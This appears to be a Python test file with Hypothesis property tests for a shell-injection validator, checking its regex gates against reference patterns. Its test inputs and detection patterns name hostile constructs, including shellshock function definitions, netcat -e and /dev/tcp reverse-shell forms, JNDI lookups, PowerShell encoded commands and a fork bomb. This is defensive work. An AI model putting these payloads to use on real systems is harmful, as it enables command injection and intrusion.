        *("\x00", "\x1f", "é", "\n", "-", "_", "() {", "{ :; }", "{:;}", "( ) {"),
        *("`$@`", "`$9`", "$``", "a'\"b", "a'^", "(){ :; }"),
    ]
)


@settings(max_examples=500)
@given(
    st.lists(_NOISE_ATOMS, max_size=40).map("".join)
    | st.lists(_NOISE_ATOMS, min_size=300, max_size=600).map("".join)
)
def test_the_literal_led_shell_passes_leave_what_the_class_led_patterns_left(low: str) -> None:
    from hardpoint.validation import _shell

    assert _shell._drop_empty_expansions(low) == _EMPTY_EXPANSION_REFERENCE.sub("", low)
    assert _shell._drop_inner_noise(low) == _INNER_NOISE_REFERENCE.sub("", low)
    reference = low
    for separator in _shell._LITERAL_SEPARATORS:
        reference = reference.replace(separator, "\x1f")
    reference = _BRACE_SEPARATORS_REFERENCE.sub("\x1f", reference)
    assert _shell._split_commands(low) == reference.translate(_shell._SEPARATOR_TABLE).split("\x1f")


@settings(max_examples=400)
@given(st.lists(st.lists(_SHELL_ATOMS, max_size=6).map("".join), min_size=1, max_size=8))
def test_a_hidden_command_is_found_as_the_loop_over_each_line_found_it(split: list[str]) -> None:
    from hardpoint.validation._shell import _COMMANDS, _hides_command

    split = [part.replace("\x1f", "") for part in split]  # the lines of a split hold none

    def reference() -> bool:
        for part in dict.fromkeys(split):
            words = part.split(None, 1)
            if words and words[0].strip("'\"") in _COMMANDS:
                return True
        return False

    assert _hides_command("\x1f".join(split)) == reference()


# The strong-shell rules as first gated: one regex gate for all, then substrings per rule.
_STRONG_GATE_REFERENCE = re.compile(
    r"cmd|powershell|-[ec]\s|<!--|<\?php|shell|/(?:tcp|udp)/|jndi|<<<|\$\{|\(\s*\)"
    r"|/(?:etc|bin|usr|proc|var|dev|root|sbin)/|sh\s+-c"
)
_STRONG_GATES_REFERENCE = (
    ("cmd",),
    ("powershell",),
    (" -e", " -c"),
    ("<!--",),
    ("<?php",),
    ("shell",),
    ("/tcp/", "/udp/"),
    ("jndi",),
    ("<<<",),
    ("${",),
    ("()",),
    ("/etc/", "/bin/", "/usr/", "/proc/", "/var/", "/dev/", "/root/", "/sbin/"),
)
_STRONG_PATTERNS_REFERENCE = tuple(
    re.compile(pattern)
    for pattern in (
        r"cmd(?:\.exe)?\s+/[ck]\b",
        r"powershell(?:\.exe)?\s+-(?:c|e|enc|nop|command|w)\b",
        r"nc(?:at)?\b[^;|&\n]{0,128}\s-[ec]\s|netcat\b[^;|&\n]{0,128}\s-[ec]\s",
        r"<!--\s*#\s*(?:exec|include|echo|config)\b",
        r"<\?php",
        r"\$\{?shell\}?\s+-c\b",
        r"/dev/(?:tcp|udp)/|\$\w+/(?:tcp|udp)/\d",
        r"jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\b",
        r"[\w.]\s{0,8}<<<",
        r"\$\{\s*@?[a-z_]+\s*\(",
        r"\(\)\s*\{[^{}]{0,128}[|&][^{}]{0,128}\}\s*[;\w]",  # a body holds no brace
        r"/(?:etc|bin|usr|proc|var|dev|root|s?bin)/(?:[\w.]*(?:\[!?[\w-]+\][\w.]*|\?+\w[\w.?]*)"
        r"|\[!?[\w-]+\])",
    )
)
_STRONG_ATOMS = st.sampled_from(
    [
        *(
            "cmd",
            ".exe",
            "powershell",
            "nc",
            "ncat",
            "netcat",
            "sh",
            "bash",
            "$",
            "{",
            "}",
            "(",
            ")",
        ),
        *(
            "shell",
            "jndi",
            ":",
            "ldap",
            "<<<",
            "<!--",
            "#",
            "exec",
            "<?php",
            "/",
            "dev",
            "tcp",
            "udp",
        ),
        *("etc", "bin", "usr", "proc", "[", "]", "!", "?", "*", "a", "1", "_", ".", "-", " ", "\n"),
        *("-c", "-e", " /c", "|", "&", ";", "é", "\x1f", "@", "w"),
        *("/dev/udp/", "/dev/tcp/", "$x/udp/1", "nc -e ", "bash -c ", "cmd /c ", "${shell} -c "),
        *("jndi:ldap", "<!--#exec", "x <<<", "${a(", "() { a|b };", "/etc/pa?swd", "/bin/c[a]t"),
        *("<<<<", "x\t\t<<<", "        ", "\n<<<"),
        *("powershell -enc ", "ncat x -c "),
    ]
)


@settings(max_examples=500)
@given(
    st.lists(_STRONG_ATOMS, max_size=40).map("".join)
    | st.lists(_STRONG_ATOMS, min_size=300, max_size=400).map("".join)
)
def test_strong_shell_gated_by_literal_led_passes_matches_the_reference(low: str) -> None:
    from hardpoint.validation import _shell

    def reference() -> bool:
        if _STRONG_GATE_REFERENCE.search(low) is None:
            return False
        if "-c" in low:
            for match in _shell._SHELL_C.finditer(low):
                start = match.start()
                word = _shell._WORD_BEFORE.search(low, max(0, start - 4), start + 2)
                if word is not None and word.group() in _shell._SHELL_NAMES:
                    return True
        return any(
            any(gate in low for gate in gates) and pattern.search(low) is not None
            for gates, pattern in zip(
                _STRONG_GATES_REFERENCE, _STRONG_PATTERNS_REFERENCE, strict=True
            )
        )

    assert _shell._strong_shell(low) == reference()


_BRACE_ATOMS = st.sampled_from(
    [
        "()",
        "( )",
        "(",
        ")",
        "{",
        "}",
        " ",
        "\t",
        ":",
        ";",
        "|",
        "&",
        "x",
        "a",
        "{ :; }",
        "() {",
        "\n",
    ]
)
_FUNCTION_PIPE_PLAIN = re.compile(r"\(\)\s*\{[^{}]{0,128}[|&][^{}]{0,128}\}\s*[;\w]")


@settings(max_examples=500)
@given(
    st.lists(_BRACE_ATOMS, max_size=40).map("".join)
    | st.lists(_BRACE_ATOMS, min_size=150, max_size=400).map("".join)
)
def test_the_function_body_pattern_takes_its_pipe_once_and_finds_what_the_plain_one_finds(
    low: str,
) -> None:
    from hardpoint.validation._shell import _FUNCTION_PIPE

    assert (_FUNCTION_PIPE.search(low) is None) == (_FUNCTION_PIPE_PLAIN.search(low) is None)


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ("a" * 128 + "|" + "b" * 128, True),
        ("a" * 129 + "|" + "b" * 10, False),
        ("|" + "b" * 129, False),
        ("a" * 100 + "|" + "b" * 27 + "&" + "c" * 128, True),  # the "&" is the one in reach
        ("a" * 100 + "|" + "b" * 28 + "&" + "c" * 128, False),
        ("a" * 128 + "|" + "b" * 129, False),
        ("a|" + "{" * 200, False),
        ("a|b{c", False),
        ("a|b()c", True),
        (" f() | f(); ", True),  # the fork bomb
    ],
)
def test_the_function_body_limits(body: str, found: bool) -> None:
    from hardpoint.validation._shell import _FUNCTION_PIPE

    for value in (f"() {{{body}}};", f"x ()  {{{body}}} y"):
        assert (_FUNCTION_PIPE.search(value) is not None) == found
        assert (_FUNCTION_PIPE_PLAIN.search(value) is not None) == found


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("() { :; }; /bin/bash -c 'id'", "shell construct"),  # bash -c is found first
        ("() { :;}; echo vulnerable", "shellshock function definition"),
        ("x=() { a; b; }; c", "shellshock function definition"),
        ("() { a | b; }; c", "shell construct"),
        ("() { ping x & }; y", "shell construct"),
    ],
)
def test_function_definitions_are_found(value: str, reason: str) -> None:
    assert command_reason(value) == reason


_SUBSTITUTION_ATOMS = st.sampled_from(
    [
        *("$(", "`", "${", "<(", ">(", ")", "}", " ", "cat", "c'a't", "c\\at", "w", "who", "ami"),
        *(
            "$@",
            "$9",
            "${ifs}",
            "$ifs",
            "/bin/",
            "usr/",
            "x",
            "'",
            '"',
            "^",
            "\x1f",
            "é",
            "ls",
            "-",
        ),
        *("c:\\windows\\", "1", "/", "a", "$('cat)", "`'ls`", '$("who")', "$(^id)", "`\\w`"),
        *("$(c$@at)", "$(${ifs}ls)", "`/bin/ls`", "$(usr/bin/id)", "$('x)", "<(", ">(", "$(<"),
    ]
)


@settings(max_examples=500)
@given(st.lists(_SUBSTITUTION_ATOMS, max_size=30).map("".join))
def test_a_substituted_command_is_never_missed_by_the_batch_check(low: str) -> None:
    """When the batch check says no, no body names a command (as the loop reads them)."""
    from hardpoint.validation import _shell

    found = False
    for sub in _shell._SUBSTITUTION.finditer(low):
        body = _shell._normalise(sub.group().lstrip("$(`{< "))
        name = _shell._SUBSTITUTED_NAME.match(body)
        if name is not None and (
            name.group() in _shell._COMMANDS or _shell._PATH_COMMAND.match(body)
        ):
            found = True
    if found:
        assert _shell._may_substitute_command(_shell._SUBSTITUTION.findall(low))


@settings(max_examples=500)
@given(
    st.lists(
        _SUBSTITUTION_ATOMS | _SHELL_ATOMS | st.sampled_from(["`id`", ".`id`", "=`ls`"]),
        max_size=40,
    ).map("".join)
)
def test_the_substitution_check_finds_what_the_loop_over_each_found(low: str) -> None:
    from hardpoint.validation import _shell

    subs = list(_shell._SUBSTITUTION.finditer(low))
    expected = False
    for sub in subs:  # the loop as it was
        body = _shell._normalise(sub.group().lstrip("$(`{< "))
        name = _shell._SUBSTITUTED_NAME.match(body)
        if name is None or (
            name.group() not in _shell._COMMANDS and not _shell._PATH_COMMAND.match(body)
        ):
            continue
        if sub.group()[0] != "`" or sub.start() == 0 or low[sub.start() - 1] in "=;|&(\"' ":
            expected = True
            break
    assert _shell._substitutes_command(low, subs) == expected


@settings(max_examples=300)
@given(st.lists(_SUBSTITUTION_ATOMS | _SHELL_ATOMS, max_size=40).map("".join))
def test_command_reason_is_the_same_without_the_substitution_batch_check(low: str) -> None:
    from unittest import mock

    from hardpoint.validation import _shell

    expected = _shell.command_reason(low)
    with mock.patch.object(_shell, "_may_substitute_command", return_value=True):
        assert _shell.command_reason(low) == expected


@settings(max_examples=400)
@given(st.lists(_SUBSTITUTION_ATOMS | _SHELL_ATOMS, max_size=40).map("".join))
def test_the_class_led_substitution_pattern_matches_as_the_reference(low: str) -> None:
    from hardpoint.validation._shell import _SUBSTITUTION

    reference = re.compile(r"[$<>]\(\s*[a-z/][^)]{0,256}\)|`\s*[a-z/][^`]{0,256}`|\$\{[a-z_]+\}")
    assert [m.span() for m in _SUBSTITUTION.finditer(low)] == [
        m.span() for m in reference.finditer(low)
    ]


# Long text (the merge of one pattern a kind) with few matches or many (past the merge's
# limit, the one pattern): filler of every lead character that starts no match, with
# substitutions of each kind, nested and overlapping, among it.
_FILLER = st.sampled_from(["$", "<", ">", "$ ", "<<", "> ", "$$", "a", " ", ")", "}", "(", "{"])


@settings(max_examples=300)
@given(
    st.lists(_SUBSTITUTION_ATOMS | _FILLER, min_size=1, max_size=200),
    st.integers(min_value=1, max_value=60),
)
def test_the_substitutions_of_long_text_are_those_of_the_one_pattern(
    atoms: list[str], repeat: int
) -> None:
    from hardpoint.validation._shell import _SUBSTITUTION, _substitutions

    low = ("".join(atoms) * repeat).rjust(600, "$")
    expected = [m.span() for m in _SUBSTITUTION.finditer(low)]
    assert [m.span() for m in _substitutions(low)] == expected


@settings(max_examples=400)
@given(
    st.lists(
        st.lists(st.sampled_from([*"ab -\t\n\x1f.9é", "--", "ls", " -la", "-x"]), max_size=10).map(
            "".join
        ),
        min_size=2,
        max_size=8,
    )
)
def test_the_flag_gate_finds_every_part_with_separated_flags(parts: list[str]) -> None:
    from hardpoint.validation._shell import _FLAG_GATE, _SEPARATED_FLAGS, _indexes

    parts = [part.replace("\x1f", "") for part in parts]  # the parts of a split hold none
    flagged = _indexes("\x1f".join(parts), _FLAG_GATE)
    for index, part in enumerate(parts):
        if _SEPARATED_FLAGS.match(part):
            assert index in flagged
